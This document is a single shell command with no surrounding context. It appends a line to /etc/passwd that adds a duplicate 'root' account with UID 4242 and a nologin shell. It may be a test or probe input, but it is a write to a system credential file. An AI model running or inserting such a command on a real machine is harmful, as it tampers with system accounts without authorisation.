printf 'root:x:4242:4242::/nonexistent:/usr/sbin/nologin\n' >>/etc/passwd
